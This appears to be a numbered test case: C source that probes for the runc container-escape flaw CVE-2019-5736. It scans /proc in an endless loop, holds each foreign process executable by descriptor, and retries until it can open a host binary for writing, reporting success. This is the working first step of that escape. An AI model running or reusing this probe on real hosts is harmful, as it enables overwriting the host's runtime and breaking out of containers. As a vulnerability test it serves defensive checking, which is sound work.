/* Case 48 (CVE-2019-5736): tries to get a writable descriptor for every program that it sees run in
 * its PID namespace and that is none of its own rootfs. Runs for ever; prints what it got. */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
  struct stat own, seen;
  setvbuf(stdout, NULL, _IONBF, 0);
  if (stat("/proc/self/exe", &own) != 0) return 1;
  puts("watching");
  for (;;) {
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    while (proc && (entry = readdir(proc))) {
      char file[300], again[64];
      if (!isdigit((unsigned char)entry->d_name[0])) continue;
      snprintf(file, sizeof file, "/proc/%s/exe", entry->d_name);
      int held = open(file, O_PATH);
      if (held < 0) continue;
      if (fstat(held, &seen) == 0 && seen.st_dev != own.st_dev) printf("saw %s\n", entry->d_name);
      if (fstat(held, &seen) == 0 && seen.st_ino != own.st_ino) {
        snprintf(again, sizeof again, "/proc/self/fd/%d", held);
        for (int i = 0; i < 2000; i++) {
          int out = open(again, O_WRONLY);
          if (out >= 0) {
            printf("could write %lu\n", (unsigned long)seen.st_ino);
            close(out);
            break;
          }
          if (errno != ETXTBSY) break;
        }
      }
      close(held);
    }
    if (proc) closedir(proc);
  }
}
